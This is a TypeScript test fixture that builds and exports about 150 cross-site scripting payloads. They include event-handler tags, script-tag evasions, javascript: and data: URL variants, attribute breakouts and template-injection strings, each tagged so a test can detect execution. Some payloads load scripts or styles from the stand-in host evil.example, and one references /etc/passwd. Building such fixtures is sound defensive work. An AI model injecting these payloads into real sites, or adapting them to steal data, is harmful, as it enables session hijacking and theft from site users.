/** What an attacker might type to make a page run it: markup, attributes, addresses and templates. Each marks what it created. */
const MARK = 'data-pwn'
const RUN = 'alert(1)'

const TAGS = ['img', 'svg', 'body', 'input', 'video', 'audio', 'details', 'iframe', 'object', 'marquee'] as const
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'] as const

/** 60: every element with every event. */
const elements = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${MARK} src=x autofocus open ${event}=${RUN}>`))

/** 30: ways to write a script element, and elements that bring documents or styles of their own. */
const scripts = [
  `<script ${MARK}>${RUN}</script>`,
  `<SCRIPT ${MARK}>${RUN}</SCRIPT>`,
  `<scr<script>ipt ${MARK}>${RUN}</scr</script>ipt>`,
  `<script ${MARK} src=//evil.example/x.js></script>`,
  `<script ${MARK} src="data:text/javascript,${RUN}"></script>`,
  `<script\t${MARK}>${RUN}</script\n>`,
  `<script/${MARK}>${RUN}</script>`,
  `</script><script ${MARK}>${RUN}</script>`,
  `</title><script ${MARK}>${RUN}</script>`,
  `</textarea><script ${MARK}>${RUN}</script>`,
  `</style><script ${MARK}>${RUN}</script>`,
  `<!--><script ${MARK}>${RUN}</script>-->`,
  `<![CDATA[<script ${MARK}>${RUN}</script>]]>`,
  `\u2028<script ${MARK}>${RUN}</script>`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=${RUN}>`,
  `<svg ${MARK}><script>${RUN}</script></svg>`,
  `<svg ${MARK}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a ${MARK} xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use ${MARK} href="data:image/svg+xml,<svg onload=${RUN}>"/></svg>`,
  `<iframe ${MARK} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:parent.${RUN}"></iframe>`,
  `<embed ${MARK} src="javascript:${RUN}">`,
  `<object ${MARK} data="javascript:${RUN}"></object>`,
  `<base ${MARK} href="//evil.example/">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link ${MARK} rel=stylesheet href="//evil.example/x.css">`,
  `<style ${MARK}>@import '//evil.example/x.css';</style>`,
  `<form ${MARK} action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<template ${MARK}><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${RUN}>">`,
]

/** 40: addresses that aren't web addresses, though some look like it. */
const addresses = [
  ...['javascript', 'JavaScript', 'jAvAsCrIpT', 'vbscript', 'livescript'].map((scheme) => `${scheme}:${RUN}`),
  ...['\t', '\n', '\r', '\u0000', '\u00a0', '\u200b'].map((gap) => `java${gap}script:${RUN}`),
  ...[' ', '\t', '\u0001', '\ufeff'].map((before) => `${before}javascript:${RUN}`),
  `javascript://example.org/%0a${RUN}`,
  `javascript://https://example.org/%0d%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&#58;${RUN}`,
  `javascript:${RUN}//https://example.org`,
  `https:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `about:blank`,
  `view-source:https://example.org`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example`,
  `https://evil.example/"onmouseover=${RUN}//`,
  `https://evil.example/'onmouseover='${RUN}`,
  `https://evil.example/<script>${RUN}</script>`,
  `https://user:pass@evil.example/`,
  `[x](javascript:${RUN})`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `www.evil.example"onclick=${RUN}`,
]

/** 20: ways out of an attribute, and what templates would run. */
const escapes = [
  `" ${MARK} onmouseover=${RUN} x="`,
  `' ${MARK} onmouseover=${RUN} x='`,
  `"><img ${MARK} src=x onerror=${RUN}>`,
  `'><img ${MARK} src=x onerror=${RUN}>`,
  `\`><img ${MARK} src=x onerror=${RUN}>`,
  `"></a><a ${MARK} href="javascript:${RUN}">x</a>`,
  `&lt;script ${MARK}&gt;${RUN}&lt;/script&gt;`,
  `&quot;><img ${MARK} src=x onerror=${RUN}>`,
  `%3Cscript ${MARK}%3E${RUN}%3C/script%3E`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"__proto__":{"innerHTML":"<img ${MARK} src=x onerror=${RUN}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img ${MARK} src=x onerror=${RUN}>"}}`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `';${RUN};//`,
  `\\u003cimg ${MARK} src=x onerror=${RUN}\\u003e`,
  `\u202e<img ${MARK} src=x onerror=${RUN}>`,
]

/** All of them. A page that runs one calls `alert`; one that takes one for markup has an element with this attribute. */
export const PAYLOADS: readonly string[] = [...elements, ...scripts, ...addresses, ...escapes]
export const PAYLOAD_MARK = MARK
